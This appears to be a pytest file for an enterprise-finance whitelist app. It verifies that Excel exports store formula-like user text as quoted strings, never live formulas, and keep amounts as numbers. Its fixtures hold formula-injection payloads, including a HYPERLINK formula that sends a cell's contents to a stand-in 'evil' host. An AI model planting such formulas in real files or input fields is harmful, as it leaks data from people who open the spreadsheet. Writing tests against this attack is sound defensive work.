"""Formula injection in the white-list workbooks (OWASP CSV Injection, ipfin.common.excel): text
that parties type — an enterprise's name, industry and region, a bank's name, a batch title, a
follow-up's reason and note — written through the real services and downloaded through the real
API and page is quoted text in a string cell, never a live formula; amounts stay numbers.

The services strip leading whitespace from names, titles, reasons and notes, so a leading tab or
carriage return reaches a workbook through the enterprise's industry and region, kept as given.
"""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import datetime
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from ipfin.accounts.models import Organisation, OrganisationKind, User
from ipfin.whitelist import services
from ipfin.whitelist.models import ScreeningRule

HYPERLINK = '=HYPERLINK("http://evil?"&B2,"click")'
SUM = "@SUM(A1)"
PLUS = "+1"
MINUS = "-2+3"
TAB = "\tx"
CR = "\rx"


def quoted(text: str) -> str:
    """What the export holds for `text`, as a reader of the file sees it: the quote in front;
    XML end-of-line handling (XML 1.0 §2.11) reads a carriage return back as a line feed."""
    return ("'" + text).replace("\r", "\n")


def assert_quoted_text(cell: Any, text: str) -> None:
    assert (cell.value, cell.data_type) == (quoted(text), "s"), cell.coordinate


def assert_number(cell: Any, value: int) -> None:
    assert (cell.value, cell.data_type) == (value, "n"), cell.coordinate


def assert_no_formula(wb: Workbook) -> None:
    formulas = [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


@pytest.fixture
def hostile(
    office_user: User,
    make_rule: Callable[..., ScreeningRule],
    make_enterprise: Callable[..., Organisation],
    make_org: Callable[..., Organisation],
    make_user: Callable[..., User],
) -> dict[str, Any]:
    """A batch titled HYPERLINK of two enterprises — named HYPERLINK (AAA: first; industry TAB,
    region CR) and SUM — pushed to the bank named MINUS, which disbursed 250,000.00 to the first
    (reason PLUS, note MINUS), declined the second (reason SUM, note HYPERLINK) and recommended
    the second to the office."""
    first = make_enterprise(HYPERLINK, {"credit_rating": "AAA"}, industry=TAB, region=CR)
    second = make_enterprise(SUM, {})
    bank = make_org(OrganisationKind.BANK, MINUS)
    banker = make_user("hostile_bank", bank)
    rule = make_rule(name="全部有画像企业")
    batch = services.batch_create(actor=office_user, rule=rule, title=HYPERLINK)
    services.batch_publish(actor=office_user, batch=batch)
    services.batch_push(actor=office_user, batch=batch, bank_ids=[bank.pk])
    services.follow_up_record(
        actor=banker,
        entry=batch.entries.get(enterprise=first),
        status="loan_disbursed",
        amount="250000.00",
        reason=PLUS,
        note=MINUS,
    )
    services.follow_up_record(
        actor=banker,
        entry=batch.entries.get(enterprise=second),
        status="declined",
        reason=SUM,
        note=HYPERLINK,
    )
    assert second.uscc is not None
    services.recommendation_create(actor=banker, enterprise_uscc=second.uscc, reason=HYPERLINK)
    return {"batch": batch, "first": first, "second": second}


@pytest.fixture(params=["api", "page"])
def download(
    request: pytest.FixtureRequest,
    api_client: Callable[..., Any],
    client_for: Callable[[User], Any],
    office_user: User,
) -> Callable[[str], Workbook]:
    """The office's download of an export ("batch/<id>" or "figures") over the API (a bearer
    token) or the page (a session), loaded with openpyxl."""
    if request.param == "api":
        client = api_client(office_user)
        urls = {"batch": "/api/v1/whitelist/batches/{}/export.xlsx"}
        urls["figures"] = "/api/v1/whitelist/figures/export.xlsx"
    else:
        client = client_for(office_user)
        urls = {"batch": "/whitelist/batches/{}/export.xlsx", "figures": "/whitelist/figures.xlsx"}

    def get(which: str, pk: int | None = None) -> Workbook:
        response = client.get(urls[which].format(pk))
        assert response.status_code == 200
        assert response["Content-Type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        return load_workbook(io.BytesIO(response.content))

    return get


def test_batch_export_writes_formula_like_text_as_quoted_string_cells_and_amounts_as_numbers(
    hostile: dict[str, Any], download: Callable[..., Workbook]
) -> None:
    wb = download("batch", hostile["batch"].pk)
    assert_no_formula(wb)

    entries = wb["白名单"]  # 序号, 企业名称, 统一社会信用代码, 行业, 地区, ...
    assert_number(entries["A2"], 1)
    assert_quoted_text(entries["B2"], HYPERLINK)
    assert (entries["C2"].value, entries["C2"].data_type) == (hostile["first"].uscc, "s")
    assert_quoted_text(entries["D2"], TAB)
    assert_quoted_text(entries["E2"], CR)
    assert_quoted_text(entries["B3"], SUM)

    latest = wb["跟进情况"]  # 企业名称, 代码, 银行, 推送时间, 最新状态, 金额（元）, 原因, 跟进时间
    assert_quoted_text(latest["A2"], HYPERLINK)
    assert_quoted_text(latest["C2"], MINUS)
    assert isinstance(latest["D2"].value, datetime)
    assert (latest["E2"].value, latest["E2"].data_type) == ("已放款", "s")
    assert_number(latest["F2"], 250000)
    assert latest["F2"].number_format == "#,##0.00"
    assert_quoted_text(latest["G2"], PLUS)
    assert_quoted_text(latest["A3"], SUM)
    assert latest["F3"].value is None
    assert_quoted_text(latest["G3"], SUM)

    # 跟进记录, by enterprise name: "=HYPERLINK…" before "@SUM…".
    history = wb["跟进记录"]  # 企业名称, 代码, 银行, 状态, 金额（元）, 原因, 备注, 记录人, 时间
    assert history.max_row == 3
    assert_quoted_text(history["A2"], HYPERLINK)
    assert_quoted_text(history["C2"], MINUS)
    assert_number(history["E2"], 250000)
    assert_quoted_text(history["F2"], PLUS)
    assert_quoted_text(history["G2"], MINUS)
    assert (history["H2"].value, history["H2"].data_type) == ("hostile_bank", "s")
    assert isinstance(history["I2"].value, datetime)
    assert_quoted_text(history["A3"], SUM)
    assert_quoted_text(history["F3"], SUM)
    assert_quoted_text(history["G3"], HYPERLINK)


def test_figures_export_writes_formula_like_names_as_quoted_string_cells_and_amounts_as_numbers(
    hostile: dict[str, Any], download: Callable[..., Workbook]
) -> None:
    wb = download("figures")
    assert_no_formula(wb)

    # 批次/银行, 推送, 已对接, 已授信（户）, 授信金额（元）, 已放款（户）, 放款金额（元）,
    # 未通过, 对接率, ...
    for sheet, name in (("按批次", HYPERLINK), ("按银行", MINUS)):
        ws = wb[sheet]
        assert ws.max_row == 2, sheet
        assert_quoted_text(ws["A2"], name)
        assert [c.value for c in ws[2]][1:8] == [2, 2, 1, 250000, 1, 250000, 1]
        assert_number(ws["E2"], 250000)
        assert_number(ws["G2"], 250000)
        assert ws["I2"].data_type == "n" and ws["I2"].value == pytest.approx(1)

    assert_number(wb["合计"]["D2"], 250000)

    recommendations = wb["银行推荐"]  # 银行, 推荐, 已纳入批次, 未采纳, 待处理
    assert_quoted_text(recommendations["A2"], MINUS)
    assert [c.value for c in recommendations[2]][1:] == [1, 0, 0, 1]
